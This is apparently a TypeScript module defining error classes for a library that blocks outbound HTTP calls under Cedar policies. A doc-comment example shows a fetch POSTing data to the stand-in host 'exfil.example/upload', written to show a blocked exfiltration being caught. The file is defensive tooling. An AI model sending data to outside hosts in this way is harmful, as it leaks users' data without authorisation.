import { type CedarDiagnostic, TruseraError } from "@trusera/core";

export { ConfigurationError, TruseraError, ValidationError } from "@trusera/core";

/** What a blocked call was, as `PolicyViolationError` carries it. */
export interface ViolationDetail {
  /** Upper case, e.g. `POST`. */
  method: string;
  /** With secret-looking query values and passwords redacted. */
  url: string;
  /** The client library the call went through: `fetch`, `undici`, `axios` or `http`. */
  library: string;
  /** The policies that decided it (empty when no policy matched, or none was loaded). */
  policyIds: readonly string[];
  /** Why, in words: the forbidding policies, a default deny, or `failClosed` with no policy. */
  reasons: readonly string[];
}

/**
 * A call denied by policy in `block` mode. `fetch` rejects with it, axios rejects with it,
 * `http.request` emits it as `error`. The call never left the process.
 *
 * @example
 * try { await fetch("https://exfil.example/upload", { method: "POST", body }); }
 * catch (err) { if (err instanceof PolicyViolationError) console.log(err.policyIds); }
 */
export class PolicyViolationError extends TruseraError {
  readonly decision = "deny" as const;
  readonly policyIds: readonly string[];
  readonly reasons: readonly string[];
  readonly method: string;
  readonly url: string;
  readonly library: string;

  constructor(detail: ViolationDetail) {
    super(
      `[Trusera] Policy violation: ${detail.method} ${detail.url} denied (${detail.reasons.join("; ")})`,
      "TRUSERA_POLICY_VIOLATION",
    );
    this.name = "PolicyViolationError";
    this.policyIds = Object.freeze([...detail.policyIds]);
    this.reasons = Object.freeze([...detail.reasons]);
    this.method = detail.method;
    this.url = detail.url;
    this.library = detail.library;
  }
}

/**
 * `CedarEvaluator.loadPolicy` refused a policy set: a syntax error, or a policy that does not fit the
 * request model (`resource.hostnme`). Each diagnostic has the policy id, line and column.
 */
export class PolicyLoadError extends TruseraError {
  readonly diagnostics: readonly CedarDiagnostic[];

  constructor(diagnostics: readonly CedarDiagnostic[]) {
    const lines = diagnostics.map(
      (d) => `${d.policyId ? `${d.policyId} ` : ""}at ${d.line}:${d.column}: ${d.message}`,
    );
    super(`Invalid Cedar policy set: ${lines.join("; ")}`, "TRUSERA_POLICY_INVALID");
    this.name = "PolicyLoadError";
    this.diagnostics = Object.freeze([...diagnostics]);
  }
}
